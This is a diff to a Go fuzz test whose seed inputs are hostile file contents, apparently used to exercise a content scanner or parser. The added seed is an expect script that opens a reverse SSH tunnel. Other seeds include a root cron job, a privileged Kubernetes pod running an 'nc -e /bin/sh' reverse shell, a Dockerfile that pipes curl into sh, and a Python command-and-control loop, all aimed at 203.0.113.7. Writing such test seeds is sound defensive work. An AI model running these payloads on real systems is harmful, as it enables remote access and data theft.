@@ -22,6 +22,7 @@ func FuzzContent(f *testing.F) {
 		{"/app/x.sh", "cat <<EOF > /etc/cron.d/y\n* * * * * root sh /tmp/z\nEOF\n${a:-$((1<<62))} \"$(( ${#x} ))\" ${x//a/b} <(echo) >(cat) {a,b}{c,d}\n"},
 		{"/k8s/pod.yaml", "kind: Pod\nspec:\n  hostPID: true\n  containers:\n  - command: [sh, -c]\n    args: [\"nc -e /bin/sh 203.0.113.7 4444\"]\n    securityContext: {privileged: true}\n  volumes: [{name: r, hostPath: {path: /}}]\nx: &a [*a]\n"},
 		{"/src/Dockerfile", "FROM x\nRUN a \\\n  && curl http://203.0.113.7/i | sh\nCMD [\"sh\", \"-c\", \"ssh -NR 2222:localhost:22 u@203.0.113.7\"]\nRUN <<EOF\necho\nEOF\n"},
+		{"/root/t.exp", "#!/usr/bin/expect -f\nspawn ssh -NR 2222:localhost:22 u@203.0.113.7\nexpect \"*assword*\"; send \"x\\r\"\n"},
 		{"/opt/a.py", "import requests,subprocess\nwhile 1:\n c=requests.get('http://203.0.113.7/c').text\n requests.post('http://203.0.113.7/o',data=subprocess.getoutput(c))\n"},
 	} {
 		f.Add(s.p, s.text)
